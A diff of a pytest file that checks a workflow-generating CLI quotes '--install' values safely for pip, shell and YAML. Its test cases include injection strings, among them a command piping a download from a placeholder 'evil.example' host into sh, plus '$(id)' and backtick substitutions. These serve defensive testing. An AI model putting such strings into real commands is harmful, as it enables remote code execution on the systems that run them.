@@ -26,7 +26,9 @@ PINNED = {
 
 def _init(plugin: Path, *args: str) -> subprocess.CompletedProcess:
     """The real `python -m harness ci init --github` (main() turns a refusal into one line)."""
-    return subprocess.run([sys.executable, "-m", "harness", "ci", "init", "--github", "--plugin", str(plugin), *args],
+    # these plugins declare no SGLang: the release they target is given, as their team would
+    given = () if "--from" in args else ("--from", "sglang==0.5.17")
+    return subprocess.run([sys.executable, "-m", "harness", "ci", "init", "--github", "--plugin", str(plugin), *given, *args],
                           capture_output=True, text=True, cwd=plugin, timeout=120, check=False,
                           env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO_ROOT), "COLUMNS": "200"})
 
@@ -60,26 +62,31 @@ def test_actions_are_pinned_by_commit_and_the_checkout_keeps_no_token(tmp_path):
     "harness-tool ${{ secrets.DEPLOY_KEY }}",  # an expression GitHub would expand before the shell runs
     "'unbalanced",
     "   ",
+    "harness[all @ git+https://git.example/org/harness@v0.1",  # a direct reference pip would refuse
+    "harness @",
 ])
 def test_install_that_could_change_the_workflow_is_refused(tmp_path, install):
     one_line_error(_init(tmp_path, "--install", install), "--install")
     assert not (tmp_path / ".github").exists()
 
 
-@pytest.mark.parametrize("install", [
-    "harness-tool; curl https://evil.example | sh",
-    "$(id >&2)",
-    "`id`",
-    "harness-tool: \"x\" # not a comment",
-    "harness[llm] @ git+https://git.example/org/harness@v0.1",
+@pytest.mark.parametrize("install,argv", [
+    ("harness-tool; curl https://evil.example | sh", ["harness-tool;", "curl", "https://evil.example", "|", "sh"]),
+    ("$(id >&2)", ["$(id", ">&2)"]),
+    ("`id`", ["`id`"]),
+    ("harness-tool: \"x\" # not a comment", ["harness-tool:", "x", "#", "not", "a", "comment"]),
+    # the README's form: a PEP 508 direct reference is one argument to pip, spaces and all
+    ("harness[llm] @ git+https://git.example/org/harness@v0.1", ["harness[llm] @ git+https://git.example/org/harness@v0.1"]),
+    ("--no-deps 'harness @ git+https://git.example/org/harness@v0.1'", ["--no-deps", "harness @ git+https://git.example/org/harness@v0.1"]),
+    ("harness[all] @git+https://git.example/org/harness@v0.1", ["harness[all] @ git+https://git.example/org/harness@v0.1"]),
 ])
-def test_install_is_pip_arguments_not_shell_or_yaml(tmp_path, install):
+def test_install_is_pip_arguments_not_shell_or_yaml(tmp_path, install, argv):
     """Odd but one-line `--install` values reach pip as the arguments they are: each is quoted
     for the shell, and the whole line for YAML."""
     assert _init(tmp_path, "--install", install, "--force").returncode == 0
     _, workflow = _workflow(tmp_path)
     step = next(s for s in workflow["jobs"]["upgrade"]["steps"] if s.get("name") == "Install harness")
-    assert step["run"] == f"python -m pip install {shlex.join(shlex.split(install))}"
-    assert shlex.split(step["run"])[4:] == shlex.split(install)
+    assert step["run"] == f"python -m pip install {shlex.join(argv)}"
+    assert shlex.split(step["run"])[4:] == argv
     assert len(workflow["jobs"]["upgrade"]["steps"]) == 7
     assert _actionlint(tmp_path / ".github/workflows/sglang-upgrade.yml") == []
